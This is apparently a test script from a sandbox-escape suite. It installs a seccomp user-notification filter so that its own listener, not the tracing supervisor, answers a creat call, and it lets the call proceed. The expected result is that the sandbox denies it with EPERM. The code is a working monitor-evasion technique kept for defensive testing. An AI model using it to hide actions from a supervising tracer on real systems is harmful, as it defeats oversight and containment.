# SPDX-License-Identifier: Apache-2.0
# tries: stack a seccomp filter whose listener is the script itself, and answer "continue" (S45)
# proof: changed
# expect: seccomp system deny EPERM
#
# SECCOMP_RET_USER_NOTIF outranks SECCOMP_RET_TRACE.  Where a second filter may be installed, the
# script hears of its own open instead of the tracer, and lets the kernel go on with it.
import ctypes
import fcntl
import os
import struct
import threading

SYS_CREAT, SYS_SECCOMP, PR_SET_NO_NEW_PRIVS = 85, 317, 38
SET_MODE_FILTER, NEW_LISTENER, FLAG_CONTINUE = 1, 8, 1
RET_USER_NOTIF, RET_ALLOW = 0x7fc00000, 0x7fff0000
NOTIF_RECV, NOTIF_SEND = 0xc0502100, 0xc0182101

libc = ctypes.CDLL(None, use_errno=True)


def hooked():
    """In a thread of its own: the filter binds this thread, not the one that answers."""
    libc.prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)
    code = b''.join(struct.pack('HBBI', *line) for line in (
        (0x20, 0, 0, 0),                    # load the number of the call
        (0x15, 0, 1, SYS_CREAT),            # skip one line unless it is creat
        (0x06, 0, 0, RET_USER_NOTIF),
        (0x06, 0, 0, RET_ALLOW)))
    text = ctypes.create_string_buffer(code)
    program = struct.pack('HxxxxxxQ', 4, ctypes.addressof(text))
    listener = libc.syscall(SYS_SECCOMP, SET_MODE_FILTER, NEW_LISTENER, program)
    if listener < 0:
        return
    threading.Thread(target=answer, args=(listener,), daemon=True).start()
    libc.syscall(SYS_CREAT, b'@CANARY@/file', 0o644)


def answer(listener):
    question = bytearray(80)
    fcntl.ioctl(listener, NOTIF_RECV, question)
    number, = struct.unpack_from('Q', question)
    fcntl.ioctl(listener, NOTIF_SEND, struct.pack('QqiI', number, 0, 0, FLAG_CONTINUE))


thread = threading.Thread(target=hooked)
thread.start()
thread.join()
